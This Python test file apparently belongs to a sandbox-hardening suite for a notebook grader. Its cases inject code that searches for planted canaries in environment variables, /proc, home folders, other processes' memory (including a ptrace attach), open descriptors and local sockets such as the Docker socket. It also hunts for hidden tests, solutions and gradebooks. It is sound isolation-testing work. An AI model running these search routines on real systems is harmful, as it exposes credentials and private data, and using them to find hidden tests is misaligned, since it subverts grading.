"""What is secret, looked for in the running machine.

Each case searches for canaries, random strings that the test hides, and prints what it found.
"""

from attacks import Scene, Work, case

HUNT = '''
import os, re, socket, sys, time

CANARY = re.compile(rb"CANARY-[a-z]+-[0-9a-f]{16}")


def loot(data, where):
    """Print the canaries in these bytes."""
    for found in set(CANARY.findall(data)):
        print("STOLEN from", where, found.decode())


def read(path, most=1 << 20):
    """Look into a file, if it can be opened without waiting."""
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            loot(os.read(descriptor, most), path)
        finally:
            os.close(descriptor)
    except OSError:
        pass


def walk(top, seconds=1.5):
    """Look into all files below a folder."""
    until = time.monotonic() + seconds
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if name not in ("site-packages", "__pycache__")]
        loot(os.fsencode(folder) + b" ".join(map(os.fsencode, files)), folder)
        for name in files:
            if time.monotonic() > until:
                return
            read(os.path.join(folder, name))


def processes():
    """The numbers of all processes in sight."""
    return [name for name in os.listdir("/proc") if name.isdigit()]
'''

DONE = "\n\nprint('SEARCHED')"


def hunt(work: Work, code: str) -> None:
    """Add a cell that searches, in the middle of the notebook."""
    work.add(HUNT + "\n\n" + code.strip("\n") + DONE, before="inject-label")


def everything(scene: Scene) -> list[str]:
    """The folders in which the canaries are."""
    return [str(path) for path in (scene.root, scene.home, scene.secret, scene.root.parent)]


@case("steal", says="SEARCHED", group="search")
def environment(work: Work):
    hunt(
        work,
        """
loot(repr(dict(os.environ)).encode(), "the environment")
for process in ["self", *processes()]:
    for file in ("environ", "cmdline", "status", "mountinfo", "net/unix", "maps", "cgroup"):
        read(f"/proc/{process}/{file}", 1 << 22)
!env
""",
    )


@case("steal", says="SEARCHED", group="search")
def homes(work: Work):
    """The home of whoever marks. Of other homes only whether they are in sight."""
    hunt(
        work,
        f"""
import pathlib, pwd

for home in {{os.path.expanduser("~"), {str(work.scene.home)!r}}}:
    walk(home)
for entry in pwd.getpwall():
    if entry.pw_dir.startswith(("/root", "/home")) and os.path.isdir(entry.pw_dir):
        try:
            if os.listdir(entry.pw_dir):
                print("STOLEN a look into the home of", entry.pw_name)
        except OSError:
            pass
for folder in ("/root", "/home"):
    if os.path.isdir(folder) and os.access(folder, os.R_OK) and os.listdir(folder):
        for name in os.listdir(folder):
            if name.startswith(".ssh"):
                print("STOLEN a look at keys")
""",
    )


@case("steal", says="SEARCHED", group="search")
def solutions_and_hidden_tests(work: Work):
    hunt(
        work,
        """
import importlib, pathlib
import course_utils
from course_utils import checking

course = pathlib.Path(course_utils.__file__).resolve().parents[1]
for above in [course, *course.parents, pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
    for name in (".git/config", "solutions", "tests/hidden", "tests/banks", "submitted",
                 "gradebook.db", "course_tools/wrong_answers", "nbgrader_config.py", "marks.csv"):
        if (above / name).exists():
            print("STOLEN", above / name)
for path in sys.path:
    if path and os.path.isdir(os.path.join(path, "hidden")):
        print("STOLEN", path)
for name in ("hidden", "tests.hidden", "banks", "course_tools.example_class", "course_tools.grade"):
    try:
        importlib.import_module(name)
        print("STOLEN", name)
    except ImportError:
        pass
try:
    print("STOLEN", len(checking.hidden_tests()))
except Exception as error:
    print(type(error).__name__)
""",
    )


@case("steal", less="one-hot")
def judge_in_the_same_process(work: Work):
    """The answer, while it is tried, looks for what will judge it; it tells in its error."""
    work.extend("one-hot", above=HUNT + "\nimport gc")
    work.extend(
        "one-hot",
        below="""
        def one_hot(labels, num_classes):
            found = [name for name in sys.modules if name.split(".")[0] in ("hidden", "banks")]
            frame = sys._getframe()
            while frame := frame.f_back:
                names = {**frame.f_globals, **frame.f_locals}
                found += [n for n in names if n in ("solve", "extra", "HIDDEN_TESTS")]
            for thing in gc.get_objects():
                if type(thing) is dict and "solve" in thing and "extra" in thing:
                    found.append(str(thing.get("__name__")))
            raise ValueError("STO" + "LEN " + " ".join(found) if found else "nothing found")
        """,
    )


@case("steal", says="SEARCHED")
def memory(work: Work):
    """All memory that can be read: the own one, where a fork's parent left it, and others'."""
    hunt(
        work,
        """
import ctypes

HIDDEN = re.compile(rb"What the hidden tests [s]hare: drawing sizes")


def scan(process, seconds):
    until = time.monotonic() + seconds
    try:
        maps = open(f"/proc/{process}/maps").read().splitlines()
        memory = open(f"/proc/{process}/mem", "rb", 0)
    except OSError:
        return
    for line in maps:
        span, rights, *_ = line.split()
        start, end = (int(part, 16) for part in span.split("-"))
        if rights[:2] != "rw" or time.monotonic() > until:
            continue
        try:
            memory.seek(start)
            data = memory.read(min(end - start, 1 << 27))
        except (OSError, ValueError, OverflowError):
            continue
        loot(data, f"the memory of process {process}")
        if HIDDEN.search(data):
            print("STOLEN a hidden test")


scan("self", 3)
for process in {*processes(), str(os.getppid())} - {str(os.getpid()), "0"}:
    scan(process, 0.5)
libc = ctypes.CDLL(None)
if libc.ptrace(16, os.getppid(), None, None) == 0 and os.getppid():
    print("STOLEN the parent's thread")
    libc.ptrace(17, os.getppid(), None, None)
""",
    )


@case("steal", says="SEARCHED", group="search")
def descriptors(work: Work):
    """Files and sockets that were open when the kernel was forked."""
    hunt(
        work,
        f"""
for process in ["self", *processes()]:
    try:
        numbers = os.listdir(f"/proc/{{process}}/fd")
    except OSError:
        continue
    for number in numbers:
        path = f"/proc/{{process}}/fd/{{number}}"
        try:
            target = os.readlink(path)
        except OSError:
            continue
        loot(target.encode(), path)
        if any(part in target for part in {everything(work.scene)!r}) or "gradebook" in target:
            print("STOLEN an open file", target)
        if os.path.isfile(path):
            read(path)
        elif os.path.isdir(path):
            walk(path + "/..", 0.3)
""",
    )


@case("steal", says="SEARCHED")
def other_processes(work: Work):
    """Those marked at the same moment: their folders, through /proc, for two seconds."""
    hunt(
        work,
        """
own = os.stat("/proc/self/ns/pid").st_ino if os.path.exists("/proc/self/ns/pid") else 0
until = time.monotonic() + 2
while time.monotonic() < until:
    for process in processes():
        for place in ("cwd", "root/tmp", "root/work", "root/dev/shm"):
            walk(f"/proc/{process}/{place}", 0.3)
        try:
            command = open(f"/proc/{process}/cmdline", "rb").read()
        except OSError:
            continue
        if b"pytest" in command or b"course_tools.grade" in command:
            print("STOLEN a look at the process that marks")
    time.sleep(0.1)
""",
    )


@case("steal", says="SEARCHED", group="search")
def network(work: Work):
    """Servers on this machine, by address and by name, and all ways out of it."""
    scene = work.scene
    hunt(
        work,
        f"""
def ask(family, address):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.settimeout(0.3)
            connection.connect(address)
            connection.send(b"GET / HTTP/1.0\\r\\n\\r\\n")
            print("STOLEN a connection to", address)
            loot(connection.recv(10000), address)
    except (OSError, ValueError):
        pass


for host in ("127.0.0.1", "localhost", socket.gethostname(), "0.0.0.0", "172.17.0.1"):
    ask(socket.AF_INET, (host, {scene.port}))
ask(socket.AF_INET6, ("::1", {scene.port}))
ask(socket.AF_UNIX, "\\0" + {scene.abstract!r})
ask(socket.AF_UNIX, {str(scene.home / "socket")!r})
for unix in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
    ask(socket.AF_UNIX, unix)
try:
    for cid in (0, 1, 2, 3):
        ask(socket.AF_VSOCK, (cid, {scene.port}))
except (AttributeError, TypeError):
    pass
for _, name in socket.if_nameindex():
    if name != "lo":
        print("STOLEN a network card", name)
read("/proc/net/unix")
""",
    )
